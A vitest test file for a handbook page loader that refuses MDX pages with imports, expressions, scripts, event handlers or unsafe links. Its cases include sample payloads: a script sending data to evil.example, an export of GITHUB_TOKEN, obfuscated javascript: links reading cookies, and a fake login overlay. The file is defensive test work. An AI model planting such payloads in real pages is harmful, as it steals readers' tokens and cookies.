/**
 * Handbook pages are MDX, which runs code when the site is built: a page may hold Markdown and plain
 * HTML only (src/lib/views/handbook-code.ts). The loader refuses anything else at its line and leaves the
 * page out, so the site never compiles it.
 */
import { describe, expect, it } from 'vitest';
import { file, load } from '../../helpers/project.ts';

const path = 'content/handbook/responding.mdx';
/** The page's front matter ends on line 7: its body starts on line 8. */
const page = (body: string) =>
  file(
    path,
    `---\ntitle: Responding\ndescription: A page.\nowner: "@ada"\nlastReviewed: 2026-11-01\nreviewEvery: P1Y\n---\n${body}\n`,
  );
const loaded = (body: string) => {
  const project = load([page(body)]);
  return {
    pages: project.handbook.length,
    problems: project.problems
      .filter((p) => p.file === path)
      .map((p) => `${p.line}:${p.column} ${p.rule} ${p.message.split('. ')[0]}`),
  };
};

describe('a handbook page', () => {
  it('may hold Markdown, plain HTML with literal attributes, and comments', () => {
    const body = [
      '# Replies',
      '',
      'Answer within a day. Press <kbd>Ctrl</kbd> + <kbd>Enter</kbd> to send; <abbr title="as soon as possible">ASAP</abbr>.',
      '',
      '{/* The chair reviews this section in spring. */}',
      '',
      '<details open>',
      '  <summary>Templates</summary>',
      '',
      '  See [the style guide](../style-guide/), [mail us](mailto:chair@example.org), [call](tel:+48123456789).',
      '</details>',
    ].join('\n');
    expect(loaded(body)).toEqual({ pages: 1, problems: [] });
  });

  it.each([
    [
      'an import',
      "import { writeFileSync } from 'node:fs';",
      '8:1 handbook/code An import or export runs when the site is built',
    ],
    [
      'an export that runs at build time',
      'export const stolen = process.env.GITHUB_TOKEN;',
      '8:1 handbook/code An import or export runs when the site is built',
    ],
    [
      'an expression',
      'Built on {new Date().toISOString()}.',
      '8:10 handbook/code {new Date().toISOString()} is code in braces',
    ],
    [
      'a script element',
      '<script>fetch("https://evil.example/?" + localStorage.length)</script>',
      '8:1 handbook/code <script> is not plain text markup a page may use',
    ],
    [
      'a component',
      '<Banner tone="urgent">Pause now</Banner>',
      '8:1 handbook/code <Banner> is not plain text markup a page may use',
    ],
    [
      'an event handler',
      '<span onmouseover="alert(1)">Hover</span>',
      '8:1 handbook/code <span onmouseover> is an attribute a page may not set (it could style, load or run something)',
    ],
    [
      'a style',
      '<div style="position:fixed;inset:0">Log in again</div>',
      '8:1 handbook/code <div style> is an attribute a page may not set (it could style, load or run something)',
    ],
    [
      'a computed attribute',
      '<span title={process.env.HOME}>Home</span>',
      '8:1 handbook/code <span title={…}> computes its value with code',
    ],
    ['a spread', '<span {...props}>Text</span>', '8:1 handbook/code <span {…}> spreads code into the element'],
    [
      'a javascript: link',
      '[Sign in again](javascript:alert(document.cookie))',
      "8:1 handbook/unsafe-link A javascript: address would run or load something in the reader's browser",
    ],
    [
      'a javascript: link with a tab in its scheme',
      '[Sign in again](<java\tscript:alert(1)>)',
      "8:1 handbook/unsafe-link A javascript: address would run or load something in the reader's browser",
    ],
    [
      'a javascript: link written with a character reference',
      '[Sign in again](&#106;avascript:alert(1))',
      "8:1 handbook/unsafe-link A javascript: address would run or load something in the reader's browser",
    ],
    [
      'a data: image',
      '![Logo](data:image/svg+xml;base64,PHN2Zz4=)',
      "8:1 handbook/unsafe-link A data: address would run or load something in the reader's browser",
    ],
    [
      'a vbscript: definition',
      '[x]: vbscript:msgbox(1)',
      "8:1 handbook/unsafe-link A vbscript: address would run or load something in the reader's browser",
    ],
  ])('is refused with %s, at its line, and left out of the site', (_, body, problem) => {
    expect(loaded(body)).toEqual({ pages: 0, problems: [problem] });
  });

  it('reports every place that would run, not only the first', () => {
    expect(
      loaded("import x from 'x';\n\nText {x}.\n\n<script>1</script>").problems.map((p) =>
        p.split(' ').slice(0, 2).join(' '),
      ),
    ).toEqual(['8:1 handbook/code', '10:6 handbook/code', '12:1 handbook/code']);
  });
});
